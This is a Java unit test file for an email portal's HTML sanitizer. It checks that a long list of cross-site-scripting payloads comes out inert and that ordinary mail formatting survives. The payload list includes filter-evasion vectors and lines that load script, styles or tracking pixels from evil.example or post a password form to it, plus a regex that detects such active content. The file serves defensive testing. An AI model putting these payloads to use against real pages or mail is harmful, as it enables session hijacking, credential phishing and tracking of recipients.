package io.postern.web.portal;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Optional;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a hostile sender tries, and what an honest one needs. */
class HtmlCleanerTest {
  private static final Pattern ACTIVE =
      Pattern.compile(
          "<(script|style|noscript|form|input|button|textarea|select|iframe|frame|object|embed|applet"
              + "|meta|base|link|svg|math|template|audio|video|source|body|html|head|title|xml|xmp"
              + "|plaintext|noembed|marquee|bgsound|dialog|details)\\b"
              + "|<[^>]*\\son[a-z]+\\s*=|<[^>]*(javascript|vbscript|data:text|data:image/svg)"
              + "|<[^>]*(url\\(|expression|@import|behavior|-moz-binding|position)"
              + "|<(img|a|td|table|div)[^>]*\\s(src|background|srcset|ping|id|class|name)=.?(http|//|/)");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror = 'alert(1)'/>",
        "<img/src='x'/onerror=alert(1)>",
        "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
        "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><style></noscript><script>alert(1)</script></style></noscript>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<style>*{background:url(http://evil.example)}</style>",
        "<div style=\"background:url(http://evil.example/b.png)\">x</div>",
        "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
        "<div style='behavior:url(#x);-moz-binding:url(http://evil.example)'>x</div>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"http://evil.example/x.swf\">",
        "<form action=http://evil.example><input name=p type=password><button>go</button></form>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<base href=\"http://evil.example/\">",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<body onload=alert(1) background=http://evil.example/x.png>x</body>",
        "<table background=\"http://evil.example/x.png\"><tr><td>x</td></tr></table>",
        "<img src=\"http://evil.example/pixel.gif\">",
        "<img src=\"//evil.example/pixel.gif\">",
        "<img src=\"https://evil.example/p\" srcset=\"http://evil.example/2x 2x\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
        "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<a href=\"http://ok.example\" ping=\"http://evil.example\" onclick=alert(1)>x</a>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<template><script>alert(1)</script></template>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<p title='\"><script>alert(1)</script>'>x</p>",
        "\u0000<scri\u0000pt>alert(1)</scri\u0000pt>",
        "<img src=\"cid:unknown\" onerror=alert(1)>",
      })
  void clean_attack_leavesNothingActive(String attack) {
    String clean = HtmlCleaner.clean(attack, id -> Optional.empty());
    assertThat(ACTIVE.matcher(clean.toLowerCase(Locale.ROOT)).find()).as(clean).isFalse();
  }

  @Test
  void clean_imageWithoutItsSource_leavesNoEmptyFrame() {
    String html =
        "<p>a<img src='http://x.example/p.gif' width='9'><img alt='b'><img src='cid:no'></p>";
    assertThat(HtmlCleaner.clean(html, id -> java.util.Optional.empty())).isEqualTo("<p>a</p>");
  }

  @Test
  void clean_link_opensApartWithoutReferrer() {
    String clean = clean("<a href=\"https://ok.example/a?b=1&amp;c=2\" target=_self>x</a>");
    assertThat(clean)
        .contains("href=\"https://ok.example/a?b&#61;1&amp;c&#61;2\"")
        .contains("target=\"_blank\"")
        .contains("noopener", "noreferrer")
        .doesNotContain("_self");
  }

  @Test
  void clean_honestMail_keepsItsForm() {
    String clean =
        clean(
            "<table border=1 width=600><tr><td bgcolor=#eeeeee style='color:red;font-size:12px'>"
                + "<b>Bold</b> <font color=blue>x</font></td></tr></table><ul><li>one</li></ul>");
    assertThat(clean)
        .contains("<table border=\"1\" width=\"600\">", "color:red", "font-size:12px")
        .contains("<b>Bold</b>", "color=\"blue\"", "<li>one</li>");
  }

  @Test
  void clean_images_onlyFromTheMessage() {
    String clean =
        HtmlCleaner.clean(
            "<img src='cid:logo@x' alt=a><img src='data:image/png;base64,iVBORw=='>",
            id -> id.equals("logo@x") ? Optional.of("data:inline-7.") : Optional.empty());
    assertThat(clean).contains("src=\"data:inline-7.\"", "data:image/png;base64,iVBORw&#61;&#61;");
  }

  @Test
  void clean_deepNesting_ends() {
    assertThat(clean("<div>".repeat(50_000) + "x")).hasSizeLessThan(10_000);
  }

  private static String clean(String html) {
    return HtmlCleaner.clean(html, id -> Optional.empty());
  }
}
